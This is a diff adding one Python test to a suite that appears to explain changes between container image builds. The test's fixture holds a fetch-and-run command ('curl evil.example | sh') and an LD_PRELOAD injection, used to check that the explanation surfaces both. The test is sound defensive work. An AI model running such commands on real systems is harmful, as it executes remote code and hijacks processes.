@@ -370,6 +370,14 @@ def test_a_changed_user_does_not_hide_a_changed_step() -> None:
     assert plain.reason.endswith("user (root to app) changed")
 
 
+def test_an_unexplained_setting_does_not_hide_a_changed_step() -> None:
+    edited = setting("RUN curl evil.example | sh", Env=["LD_PRELOAD=/evil.so"])
+    after = build(replace(edited, files={"evil": "1"}), base=python(0))
+    reason = explain(python(0), after).reason
+    assert "LD_PRELOAD" in reason
+    assert "evil.example" in reason
+
+
 def test_a_setting_is_told_with_what_it_became() -> None:
     before, after = (build(run("make", n=port), expose(port), base=debian()) for port in ("1", "2"))
     reason = explain(before, after, versions=("1.0", "1.0")).reason
